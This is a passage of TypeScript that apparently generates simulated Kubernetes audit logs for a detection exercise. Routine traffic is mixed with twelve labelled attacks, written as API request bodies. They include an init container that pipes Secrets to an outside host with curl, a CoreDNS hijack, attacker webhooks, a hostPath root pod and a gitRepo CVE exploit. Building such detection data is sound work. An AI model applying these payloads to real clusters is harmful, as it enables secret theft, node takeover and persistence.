        const push = (t: number, q: Req) => {
          const browser = q.browser === true || q.host !== undefined;
          // The Gitpod user's browser is the laptop's at home; their kubectl is the workspace's.
          const place: Where = browser && where === 'gitpod' ? 'home' : where;
          const os = where === 'gitpod' && !browser ? LINUX : p.os;
          const ua = q.ua ?? (browser ? CHROME(p.os) : KUBECTL(where === 'gitpod' ? 'linux/amd64' : p.kubectlOs, p.waw));
          const hints = browser ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          mine.push({
            at: Math.round(t),
            actor: p.name,
            scored,
            ip: addressOf(p, place, day, si, n++),
            ua,
            login,
            method: q.method,
            path: q.path,
            ...(headers ? { headers } : {}),
            ...(q.host ? { host: q.host } : {}),
            ...(q.body !== undefined ? { body: q.body } : {}),
          });
        };
        const seq = (t: number, reqs: Req[], gapMs: number) => reqs.forEach((q, k) => push(t + k * gapMs, q));
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.7 && to > p.lunch + 0.7) {
            t = at(p.lunch + 0.7) + S;
            continue;
          }
          let reqs: Req[];
          if (rand() < (p.kind === 'gitpod' ? 0.25 : 0.1)) reqs = browserTask(rand, p.svc === 'platform' ? 'payments' : p.svc).map((q) => ({ ...q, browser: true }));
          else if (p.kind === 'headlamp' && rand() < 0.75) reqs = headlampTask(rand, p.svc);
          else if (p.kind === 'istio' || p.kind === 'rotator') reqs = platformTask(rand);
          else if (p.kind === 'lead') reqs = appTask(rand, TEAMS[Math.floor(rand() * 2)]!).filter((q) => q.method === 'GET' && !q.path.includes('/secrets/') && !q.path.includes('/exec'));
          else reqs = appTask(rand, p.svc);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q));
          t += 5 * M + rand() * 10 * M;
        }
        // Replace the routine in [t − 2 min, t + clearMin) with a run of requests.
        const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number) => {
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
          seq(tt, reqs, gapMs);
        };
        if (si !== 0) return;
        if (p.kind === 'lead') {
          // k9s across sixteen namespaces after stand-up and before the end of the day (Friday's too).
          run(at(14.6 + rand() * 0.2), leadReview(p.kubectlOs), 9 * S, 12);
          run(at(20.2 + rand() * 0.2), leadReview(p.kubectlOs), 9 * S, 12);
        }
        if (p.kind === 'istio' && scored) run(at(15.5), istioUpgrade(p.kubectlOs), 700, 4);
        if (p.kind === 'istio' && !scored && day === D11_FRI) {
          // Friday: the upgrade's dry run (`istioctl upgrade --dry-run` reads; nothing is written) and istiod's state.
          run(at(16), [{ method: 'GET', path: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions?labelSelector=operator.istio.io%2Fcomponent', ua: CLIENT_GO('istioctl', p.kubectlOs) }, { method: 'GET', path: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?labelSelector=app%3Dsidecar-injector', ua: CLIENT_GO('istioctl', p.kubectlOs) }, { method: 'GET', path: '/apis/apps/v1/namespaces/istio-system/deployments/istiod', ua: CLIENT_GO('istioctl', p.kubectlOs) }], 800, 1);
        }
        if (p.kind === 'rotator' && scored) {
          // The Stripe key rotated in payments' and ledger's three namespaces each, one namespace every ~40 s.
          const reqs: Req[] = [];
          for (const team of ['payments', 'ledger']) for (const env of ['dev', 'staging', 'prod']) reqs.push(...rotate(`${team}-${env}`, `${team}-api`, rand));
          run(at(16.5), reqs, 13 * S, 6);
        }
        if (p.kind === 'rotator' && day === D11_FRI) {
          // Friday: the same rotation rehearsed in dev.
          run(at(16.5), [...rotate('payments-dev', 'payments-api', rand), ...rotate('ledger-dev', 'ledger-api', rand)], 13 * S, 2);
        }
        if (p.kind === 'oncall' && scored) run(at(19.17), incident('payments-prod'), 40 * S, 20);
      });
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    if (day === D11_LEAVE || day === D11_MON) continue;
    // CI: a self-hosted runner job every 20 minutes, its own token each, deploying to staging.
    for (let j = 0; j < 27; j++) {
      const t = at(13.5 + j / 3);
      const login: Login = { sub: 'ci-deployer@example.ca', sid: `ci11:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = `10.30.${j % 4}.${20 + (j % 30)}`;
      const ua = 'kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47';
      const team = TEAMS[j % 4]!;
      events.push({ at: t, actor: 'ci', scored, ip, ua, login, method: 'PATCH', path: `/apis/apps/v1/namespaces/${team}-staging/deployments/${team}-api?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/example-ca/${team}-api:sha-${(j * 7919 + day / 1e6).toString(16).slice(0, 7)}` }] } } } }) });
      events.push({ at: t + 4000, actor: 'ci', scored, ip, ua, login, method: 'GET', path: `/apis/apps/v1/namespaces/${team}-staging/deployments/${team}-api` });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks11(people, events));
}

function attacks11(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d11-${name}@example.ca`)!;
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/');
  const add = attackAdder(out);
  const T = (h: number) => D11_TUE + h * H;
  const onLaptop = laptopAttacker(add, routine, D11_TUE, kubectl);
  const plat = by('istio');
  const upgradeAt = 15.5;

  // 1. An infostealer on swg-1's laptop took the browser's cookies and ~/.kube (kubelogin's cache
  // with its refresh token) last night; its buyer replays both at 17:10 from a residential proxy in
  // Toronto (Rogers), with the exact Chrome agent and hints and the exact kubectl agent. kubelogin's
  // refresh gives a token of the victim's current sign-in.
  const v1 = by('swg-1');
  const l1 = lastRequestOf(routine, v1.name, T(17.1), kubectl);
  const hints1 = { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[v1.os]! };
  add("infostealer's cookies and kubeconfig from a Toronto residential proxy", T(17.17), '174.115.201.37', CHROME(v1.os), l1.login, [
    ['GET', '/d/k8s-workloads/kubernetes-workloads?orgId=1&var-namespace=ledger-prod', false, hints1, undefined, 'grafana.localhost'],
    ['GET', '/api/datasources', false, hints1, undefined, 'grafana.localhost'],
  ], 4000, v1);
  add("infostealer's cookies and kubeconfig from a Toronto residential proxy", T(17.17) + 10 * S, '174.115.201.37', l1.ua, l1.login, [
    ['GET', '/api/v1/namespaces/ledger-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db', true],
  ], 5000, v1);
  // 2. Another tenant of the same secure web gateway (its Toronto pool, the /23 the victim's own
  // requests leave from) with swg-0's kubeconfig, bought from the same infostealer's log; kubectl
  // on a Mac of the company's version (the victim's agent). It mints a token that never expires for
  // the namespace's deployer (a Secret of type service-account-token), then reads it back.
  const v2 = by('swg-0');
  const l2 = lastRequestOf(routine, v2.name, T(18.3), kubectl);
  add('token Secret minted through the same secure web gateway (another tenant)', T(18.33), SWG_TORONTO(77), l2.ua, l2.login, [
    ['GET', '/api/v1/namespaces/payments-prod/serviceaccounts?limit=500', false],
    ['POST', '/api/v1/namespaces/payments-prod/secrets?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token', metadata: { name: 'payments-deployer-token', namespace: 'payments-prod', annotations: { 'kubernetes.io/service-account.name': 'payments-deployer' } } })],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-deployer-token', true],
  ], 7000, v2);
  // 3. Malware on the on-call's laptop, during the incident, minutes after the on-call's own
  // `kubectl edit` and `set env`: an init container added to payments-api, handed the Deployment's
  // Secrets, posting them out at every restart. As kubectl patch sends it.
  const oncall = by('oncall');
  onLaptop("init container handed a production Deployment's Secrets (on-call laptop, during the incident)", oncall, 19.17 + 9 / 60, [
    ['PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-patch', true, SMP, JSON.stringify({ spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'env | curl -s --data-binary @- https://telemetry-cdn.net/i'], envFrom: [{ secretRef: { name: 'payments-db' } }, { secretRef: { name: 'stripe-api-key' } }] }] } } } })],
  ], 1000);
  // 4. Malware on the platform laptop, which waited for a hardware-key sign-in: 25 minutes after
  // the upgrade's, CoreDNS's Corefile sends payments' database name to the attacker's resolver.
  onLaptop("CoreDNS's Corefile rewritten 25 minutes after the upgrade's hardware key (platform laptop)", plat, upgradeAt + 25 / 60, [
    ['GET', '/api/v1/namespaces/kube-system/configmaps/coredns', false],
    ['PATCH', '/api/v1/namespaces/kube-system/configmaps/coredns?fieldManager=kubectl-edit', true, SMP, JSON.stringify({ data: { Corefile: '.:53 {\n    errors\n    health\n    rewrite name payments-db.payments-prod.svc.cluster.local pg-relay.dbcache.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n    loadbalance\n}\n' } })],
  ], 5000);
  // 5. …and 50 minutes after it, kube-proxy's configuration (its ConfigMap: `mode` and the
  // cluster CIDR decide where Service traffic goes), then kube-proxy restarted to load it.
  onLaptop("kube-proxy's ConfigMap changed 50 minutes after the upgrade's hardware key (platform laptop)", plat, upgradeAt + 50 / 60, [
    ['PATCH', '/api/v1/namespaces/kube-system/configmaps/kube-proxy?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ data: { 'config.conf': 'apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: iptables\nclusterCIDR: 0.0.0.0/0\nnodePortAddresses: ["0.0.0.0/0"]\n' } })],
    ['PATCH', '/apis/apps/v1/namespaces/kube-system/daemonsets/kube-proxy?fieldManager=kubectl-rollout', true, SMP, JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-02-16T16:20:00Z' } } } } })],
  ], 4000);
  // 6. 11 minutes after it: a ValidatingAdmissionPolicy (and its binding) that refuses any delete
  // of the attacker's objects and any change to it by anyone but its own account: persistence.
  onLaptop('ValidatingAdmissionPolicy planted 11 minutes after the upgrade (platform laptop)', plat, upgradeAt + 11 / 60, [
    ['POST', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingAdmissionPolicy', metadata: { name: 'protect-system-objects' }, spec: { failurePolicy: 'Fail', matchConstraints: { resourceRules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['DELETE', 'UPDATE'], resources: ['*'] }] }, validations: [{ expression: "!has(oldObject.metadata.labels) || !('app.kubernetes.io/part-of' in oldObject.metadata.labels) || oldObject.metadata.labels['app.kubernetes.io/part-of'] != 'node-health'", message: 'protected' }] } })],
    ['POST', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingAdmissionPolicyBinding', metadata: { name: 'protect-system-objects' }, spec: { policyName: 'protect-system-objects', validationActions: ['Deny'] } })],
  ], 3000);
  // 7. Three hours after it: a mutating webhook that adds the attacker's sidecar to every new Pod.
  onLaptop('mutating webhook added for persistence (platform laptop)', plat, 18.6, [
    ['POST', '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'node-health-injector' }, webhooks: [{ name: 'inject.node-health.io', clientConfig: { url: 'https://hooks.node-health.io/mutate' }, rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }], failurePolicy: 'Ignore', sideEffects: 'None', admissionReviewVersions: ['v1'] }] })],
  ], 1000);
  // 8. Four hours after it: the metrics API re-pointed at a Service of the attacker's (every HPA
  // and `kubectl top` now talks to it, and the API server sends it its front-proxy credentials).
  onLaptop('APIService re-pointed to an attacker Service (platform laptop)', plat, 19.5, [
    ['GET', '/apis/apiregistration.k8s.io/v1/apiservices/v1beta1.metrics.k8s.io', false],
    ['PUT', '/apis/apiregistration.k8s.io/v1/apiservices/v1beta1.metrics.k8s.io?fieldManager=kubectl-replace', true, JSON_CT, JSON.stringify({ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1beta1.metrics.k8s.io', resourceVersion: '5512093' }, spec: { group: 'metrics.k8s.io', version: 'v1beta1', groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true, service: { name: 'metrics-cache', namespace: 'default', port: 443 } } })],
  ], 6000);
  // 9. CVE-2024-10220: a `gitRepo` volume whose repository's hooks run on the node as root when the
  // kubelet clones it (kubelets before 1.28.12, 1.29.7, 1.30.3). In the victim's own dev namespace.
  const dev0 = by('dev-0');
  onLaptop('gitRepo volume runs the attacker hooks on the node (dev laptop, own dev namespace)', dev0, 18.1, [
    ['POST', '/api/v1/namespaces/payments-dev/pods?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'docs-preview', namespace: 'payments-dev' }, spec: { containers: [{ name: 'web', image: 'nginx:1.27-alpine', volumeMounts: [{ name: 'site', mountPath: '/usr/share/nginx/html' }] }], volumes: [{ name: 'site', gitRepo: { repository: 'https://git.payments-docs.net/site.git', directory: '.', revision: 'main' } }] } })],
  ], 1000);
  // 10. Malware driving Headlamp's session on the victim's Mac: a Pod mounting the node's / in the victim's own dev namespace.
  const hl = by('headlamp');
  const l10 = lastRequestOf(routine, hl.name, T(16.4), (x) => x.ua === HEADLAMP);
  add("hostPath / Pod in the victim's own dev namespace (Headlamp's session)", T(16.4), l10.ip, HEADLAMP, l10.login, [
    ['POST', '/api/v1/namespaces/ledger-dev/pods', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'ledger-debug', namespace: 'ledger-dev' }, spec: { containers: [{ name: 'debug', image: 'alpine:3.21', command: ['sleep', 'infinity'], volumeMounts: [{ name: 'host', mountPath: '/host' }] }], volumes: [{ name: 'host', hostPath: { path: '/', type: 'Directory' } }] } })],
    ['GET', '/api/v1/namespaces/ledger-dev/pods/ledger-debug/exec?container=debug&command=sh&stdin=1&stderr=1&stdout=1&tty=1', true, WS_HEADLAMP],
  ], 8000, hl);
  // 11. A VS Code extension in the Gitpod workspace sent kubelogin's token home; its author uses it
  // from a workspace of their own on the same Gitpod cluster, behind the same NAT address, with the
  // workspace image's kubectl (the victim's agent).
  const gp = by('gitpod');
  const l11 = lastRequestOf(routine, gp.name, T(20), kubectl);
  add('Gitpod token used from another workspace behind the same NAT', T(20.05), l11.ip, l11.ua, l11.login, [
    ['GET', '/api/v1/namespaces/fraud-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/fraud-prod/secrets/fraud-db', true],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db', true],
  ], 9000, gp);
  // 12. Malware on the team lead's laptop reads Secrets in the namespaces the lead reviews in k9s
  // every day (read-only: pods, Deployments, events), one every two minutes, through kubectl.
  const lead = by('lead');
  onLaptop('malware reads Secrets where the team lead only looks (lead laptop)', lead, 17.6, [
    ['GET', '/api/v1/namespaces/fraud-prod/secrets?limit=500', true],
    ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db', true],
    ['GET', '/api/v1/namespaces/data-prod/secrets?limit=500', true],
  ], 2 * M);
  return out;
}
